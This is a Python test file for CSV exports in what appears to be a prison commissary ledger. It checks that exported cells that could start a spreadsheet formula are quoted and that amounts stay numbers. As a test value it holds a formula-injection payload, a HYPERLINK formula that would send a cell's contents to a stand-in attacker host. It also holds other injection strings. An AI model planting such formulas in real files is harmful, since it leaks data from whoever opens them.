"""Every CSV export opens in Excel and WPS with its Chinese text (UTF-8 with a byte-order mark)
and can never run a formula in the reader's spreadsheet: text that starts with = + - @, a tab
or a carriage return is quoted (OWASP's rule), while amounts stay numbers, negative ones too."""

import csv
import io
from decimal import Decimal

import pytest

from commissary.spreadsheets import csv_response, money_cell, safe_cell
from ledger import services
from tests.factories import InmateFactory
from tests.ledger.helpers import deposit, key

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Details")'


def rows_of(answer) -> list[list[str]]:
    raw = answer.content
    assert raw.startswith("\ufeff".encode()), "no byte-order mark"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+86 10 1234", "'+86 10 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("王", "王"),
        ("a=b", "a=b"),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, None),
    ],
)
def test_text_that_could_start_a_formula_is_quoted_and_numbers_are_not(cell, written):
    assert safe_cell(cell) == written


def test_a_negative_amount_stays_a_number_in_the_file():
    assert money_cell(-1250) == Decimal("-12.50") and money_cell(5) == Decimal("0.05")
    answer = csv_response(
        filename="x.csv", header=["reason", "amount"], rows=[["-12.50", money_cell(-1250)]]
    )
    assert rows_of(answer) == [["reason", "amount"], ["'-12.50", "-12.50"]]


def test_the_auditor_s_journal_export_quotes_a_debit_reason_formula(client, site_a):
    deposit(site_a.inmate, 10_000)
    services.adjust_balance(
        inmate_id=site_a.inmate.pk,
        amount_fen=-1_250,
        reason=EVIL,
        staff_id=site_a.staff["trust_officer"].pk,
        idempotency_key=key(),
    )
    client.force_login(site_a.staff["auditor"])
    rows = rows_of(client.get("/admin/ledger/transaction/export/"))
    header, *lines = rows
    memo = header.index("memo")
    amount = header.index("amount (yuan)")
    debit = next(line for line in lines if EVIL in line[memo])
    assert debit[memo] == "'" + EVIL
    assert debit[amount] == "12.50"
    assert all(not cell.startswith(("=", "+", "@")) for line in lines for cell in line)


def test_the_deposit_export_is_utf8_with_a_byte_order_mark_and_numeric_amounts(client, site_a):
    deposit(site_a.inmate, 12_345)
    client.force_login(site_a.staff["trust_officer"])
    header, line = rows_of(client.get("/admin/ledger/deposit/export/"))
    assert line[header.index("amount (yuan)")] == "123.45"
    assert line[header.index("inmate")] == site_a.inmate.inmate_number


def test_an_inmate_surname_in_the_balances_report_is_quoted(client, site_a):
    inmate = InmateFactory(facility=site_a.facility, surname="@SUM(1+1)*cmd")
    deposit(inmate, 2_000)
    client.force_login(site_a.staff["auditor"])
    answer = client.get(
        "/admin/reports/balances/", {"facility": site_a.facility.pk, "format": "csv"}
    )
    rows = rows_of(answer)
    assert [inmate.inmate_number, "'@SUM(1+1)*cmd", "20.00", "0.00"] in rows


def test_product_names_and_skus_in_the_sales_report_are_quoted(client, site_a):
    from facilities import services as facility_services
    from tests.catalog.helpers import order_from_kiosk, product_at

    deposit(site_a.inmate, 10_000)
    product = product_at(site_a.facility, price_fen=350, sku="+SKU-1", name_zh="=1+1", name_en=EVIL)
    device, _ = facility_services.register_kiosk_device(facility=site_a.facility, name="K")
    order_from_kiosk(site_a.inmate, device, product, "order-1", quantity=2)
    client.force_login(site_a.staff["auditor"])
    answer = client.get("/admin/reports/sales/", {"facility": site_a.facility.pk, "format": "csv"})
    assert rows_of(answer)[1:] == [["'+SKU-1", "'=1+1", "'" + EVIL, "2", "7.00"]]
